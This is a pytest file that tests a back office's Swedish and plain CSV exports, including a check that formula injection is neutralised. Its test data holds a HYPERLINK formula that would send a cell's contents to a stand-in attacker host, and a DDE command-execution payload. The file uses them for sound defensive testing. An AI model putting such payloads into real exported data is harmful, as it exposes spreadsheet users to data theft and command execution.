"""The web's CSV exports over real HTTP: formulas neutralised; the Swedish dialect by default
(Swedish headers and values, ``;``, decimal comma, BOM, local ``ÅÅÅÅ-MM-DD tt:mm``) and the plain
one for scripts (English names and codes), every export read back in both with ``csv``; one
read back by a real spreadsheet engine (LibreOffice headless)."""

from __future__ import annotations

import csv
import io
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest

from host import csvfile

from ..backoffice.builders import keypair
from ..csv_safety import cells, formulas, naive_formulas
from .conftest import Server

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Klicka")'
COMMAND = "Eva Ek;=cmd|' /C calc'!A0"
SAMPLE = "month=2026-03"
# Every CSV the pages offer (host/web/pages.py's table).
EXPORTS = [
    "/web/keys.csv",
    "/web/key-totals.csv",
    "/web/locks.csv?type=all",
    "/web/mounts.csv?from=2025-11&to=2026-04",
    f"/web/sample.csv?{SAMPLE}",
    f"/web/sample-visits.csv?{SAMPLE}",
    f"/web/lock-share.csv?{SAMPLE}",
    "/web/activity.csv",
    "/web/stations.csv",
    "/web/blocklist.csv",
    "/web/blocklist-locks.csv",
    "/web/anomalies.csv?since=2026-01-01",
]
SECONDS = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d")
MINUTES = re.compile(r"\d{4}-\d\d-\d\d \d\d:\d\d")
UNIX_TIME = re.compile(r"1[5-9]\d{8}")  # 2017..2033 as Unix seconds


def _plain(url: str) -> str:
    return url + ("&" if "?" in url else "?") + "dialect=plain"


def test_every_export_reads_back_in_both_dialects(demo_server: Server) -> None:
    with demo_server.client("admin") as client:
        answers = {url: (client.get(url), client.get(_plain(url))) for url in EXPORTS}
    seen_words: set[str] = set()
    for url, (swedish, plain) in answers.items():
        assert swedish.status_code == plain.status_code == 200, url
        sv_text, plain_text = swedish.content.decode("utf-8"), plain.content.decode("utf-8")
        assert sv_text.startswith("\ufeff") and not plain_text.startswith("\ufeff"), url
        sv_rows = list(csv.reader(io.StringIO(sv_text.removeprefix("\ufeff")), delimiter=";"))
        plain_rows = list(csv.reader(io.StringIO(plain_text), delimiter=","))
        assert len(sv_rows) == len(plain_rows) >= 1, url
        assert {len(r) for r in sv_rows} == {len(r) for r in plain_rows} == {len(sv_rows[0])}
        sv_header, plain_header = sv_rows[0], plain_rows[0]
        assert len(set(sv_header)) == len(sv_header), (url, sv_header)  # one name per column
        assert all(re.fullmatch(r"[a-z0-9_]+", name) for name in plain_header), url
        assert not any("_" in name for name in sv_header), (url, sv_header)
        for sv_row, plain_row in zip(sv_rows[1:], plain_rows[1:], strict=True):
            for name, sv_cell, plain_cell in zip(plain_header, sv_row, plain_row, strict=True):
                where = (url, name, sv_cell, plain_cell)
                assert not SECONDS.fullmatch(sv_cell), where  # a time: to the minute
                if SECONDS.fullmatch(plain_cell):
                    assert sv_cell == plain_cell[:16] and MINUTES.fullmatch(sv_cell), where
                assert not UNIX_TIME.fullmatch(sv_cell), where
                assert sv_cell not in ("true", "false") and plain_cell not in ("ja", "nej"), where
                if re.fullmatch(r"-?\d+\.\d", plain_cell):
                    assert sv_cell == plain_cell.replace(".", ","), where
                seen_words.add(sv_cell)
        # csvfile's own reader tells the dialects apart by the BOM and gives the same cells
        assert csvfile.read(sv_text)[1:] == [[csvfile.restore(c) for c in r] for r in sv_rows[1:]]
    # Swedish values, not the codes: a door opened, a key blocked, yes and no
    assert {"öppnat", "spärrad", "ja", "nej", "Totalt"} <= seen_words


def test_a_staff_name_that_is_a_formula_reaches_no_cell_in_either_dialect(
    fresh_server: Server,
) -> None:
    demo = fresh_server.demo
    unit = demo.ids["unit_nord"]
    for key_id, name in ((901, HYPERLINK), (902, COMMAND)):
        staff = demo.office.add_staff(demo.admin, unit, name)[0]["id"]
        demo.office.add_key(demo.admin, staff, keypair()[1], key_id)
    with fresh_server.client("admin") as client:
        swedish = client.get("/web/keys.csv")
        plain = client.get("/web/keys.csv?dialect=plain")
        assert client.get("/web/keys.csv?dialect=xls").status_code == 400
        page = client.get("/web/keys").text
    assert 'href="/web/keys.csv?dialect=plain"' in page
    assert plain.headers["content-disposition"].endswith('-plain.csv"')
    for response, delimiter, key, name in (
        (plain, ",", "key_id", "staff"),
        (swedish, ";", "Nyckel", "Medarbetare"),
    ):
        assert response.status_code == 200
        content = response.content.decode("utf-8")
        assert content.startswith("\ufeff") == (delimiter == ";")
        assert formulas(content) == []
        assert naive_formulas(content, ",") == naive_formulas(content, ";") == []
        header, *rows = cells(content, delimiter)
        staff = {row[header.index(key)]: row[header.index(name)] for row in rows}
        assert staff["901"] == "'" + HYPERLINK
        assert staff["902"] == "'Eva Ek;'=cmd|' /C calc'!A0"
        restored = {r[key]: r[name] for r in csvfile.read_records(content)}
        assert (restored["901"], restored["902"]) == (HYPERLINK, COMMAND)


def test_the_swedish_dialect_writes_shares_with_a_decimal_comma(demo_server: Server) -> None:
    with demo_server.client("admin") as client:
        plain = client.get(f"/web/sample.csv?{SAMPLE}&dialect=plain").content.decode("utf-8")
        swedish = client.get(f"/web/sample.csv?{SAMPLE}")
    rows = cells(swedish.content.decode("utf-8"), ";")
    share = rows[0].index("Andel via lås")
    shares = [row[share] for row in rows[1:] if row[share]]
    assert shares and all("," in s or s.isdigit() for s in shares)
    plain_rows = cells(plain, ",")
    assert plain_rows[0][share] == "share_lock_percent"
    assert [r[share] for r in plain_rows[1:] if r[share]] == [s.replace(",", ".") for s in shares]


def _ods_cells(path: Path) -> list[list[tuple[str, str]]]:
    """Rows of (value type, value) of an .ods file's first sheet (its content.xml)."""
    content = zipfile.ZipFile(path).read("content.xml").decode("utf-8")
    rows = []
    for row in re.findall(r"<table:table-row[^>]*>(.*?)</table:table-row>", content, re.S):
        found = []
        for attributes, body in re.findall(
            r"<table:table-cell([^>]*?)(?:/>|>(.*?)</table:table-cell>)", row, re.S
        ):
            kind = re.search(r'office:value-type="(\w+)"', attributes)
            value = re.search(r'office:(?:date-)?value="([^"]*)"', attributes)
            shown = re.sub(r"<[^>]+>", "", body)
            repeated = re.search(r'table:number-columns-repeated="(\d+)"', attributes)
            cell = (kind.group(1) if kind else "", value.group(1) if value else shown)
            found.extend([cell] * (int(repeated.group(1)) if repeated else 1))
        rows.append(found)
    return rows


@pytest.mark.sqlite_only
def test_libreoffice_reads_the_swedish_sample_as_numbers_dates_and_swedish_text(
    demo_server: Server, tmp_path: Path
) -> None:
    """A real spreadsheet engine: LibreOffice Calc headless (``inv system-deps``) opens the
    Swedish export as a Swedish-set spreadsheet does (``;``, UTF-8, language sv-SE, hence the
    decimal comma) and converts it to .ods; the cells read back are numbers, dates and the
    Swedish words."""
    soffice = shutil.which("soffice")
    assert soffice, "no LibreOffice: inv system-deps (apt-get install libreoffice-calc-nogui)"
    with demo_server.client("admin") as client:
        visits = client.get(f"/web/sample-visits.csv?{SAMPLE}").content
        summary = client.get(f"/web/sample.csv?{SAMPLE}").content
        plain = client.get(f"/web/sample.csv?{SAMPLE}&dialect=plain").text
    for name, content in (("visits", visits), ("summary", summary)):
        (tmp_path / f"{name}.csv").write_bytes(content)
    # 59 ';', 34 '"', 76 UTF-8, from line 1, standard cells, language 1053 (sv-SE)
    subprocess.run(
        [
            soffice,
            "--headless",
            "--norestore",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--infilter=CSV:59,34,76,1,,1053",
            "--convert-to",
            "ods",
            "--outdir",
            str(tmp_path),
            str(tmp_path / "visits.csv"),
            str(tmp_path / "summary.csv"),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )
    header, *rows = _ods_cells(tmp_path / "visits.ods")
    names = [value for _kind, value in header]
    assert names[:4] == ["Stickprovsdatum", "Slumptal för urvalet", "Utförare", "Kund"]
    start = names.index("Start")
    assert rows and all(row[start][0] == "date" for row in rows)
    assert rows[0][start][1].startswith("2026-03-16T")
    opened = {row[names.index("Låset öppnat")][1] for row in rows}
    assert opened == {"ja", "nej"}
    header, *rows = _ods_cells(tmp_path / "summary.ods")
    names = [value for _kind, value in header]
    share = names.index("Andel via lås")
    values = [row[share] for row in rows if row[share][1]]
    assert values and all(kind == "float" for kind, _value in values)
    # "60,0" read as the number 60: the same numbers the plain export has
    expected = [float(r["share_lock_percent"]) for r in csvfile.read_records(plain)]
    assert [float(value) for _kind, value in values] == expected
